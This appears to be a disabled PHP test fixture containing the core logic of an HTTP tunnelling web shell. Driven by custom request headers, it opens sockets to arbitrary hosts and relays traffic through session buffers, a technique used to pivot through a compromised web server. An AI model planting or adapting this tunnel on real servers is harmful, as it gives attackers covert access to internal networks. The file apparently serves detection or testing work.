<?php exit; /* inert */ $en = "ELIDEDALPHABET"; $de = "ELIDEDALPHABET2";
function nd($s) { global $en, $de; return base64_decode(strtr($s, $de, $en)); }
$headers = apache_request_headers();
if ($_SERVER['REQUEST_METHOD'] === 'GET') { exit('<!-- fixture -->'); }
$cmd = $headers['Xcmd'];
$mark = substr($cmd, 0, 22);
$cmd = substr($cmd, 22);
$run = "run" . $mark; $wbuf = "writebuf" . $mark; $rbuf = "readbuf" . $mark;
switch ($cmd) {
    case "CONNECT":
        $t = explode("|", nd($headers['Xtarget']));
        $res = fsockopen($t[0], (int)$t[1], $errno, $errstr, 3);
        stream_set_blocking($res, false);
        @session_start();
        $_SESSION[$run] = true;
        session_write_close();
        while ($_SESSION[$run]) {
            @session_start(); $w = $_SESSION[$wbuf]; $_SESSION[$wbuf] = ''; session_write_close();
            if ($w != '') { fwrite($res, $w); }
            while ($o = fgets($res, 10)) { @session_start(); $_SESSION[$rbuf] .= $o; session_write_close(); }
        }
        fclose($res);
        break;
    case "FORWARD":
        @session_start();
        $_SESSION[$wbuf] .= nd(file_get_contents("php://input"));
        session_write_close();
        break;
    case "READ":
        @session_start(); $b = $_SESSION[$rbuf]; $_SESSION[$rbuf] = ''; session_write_close();
        echo strtr(base64_encode($b), $en, $de);
        break;
}
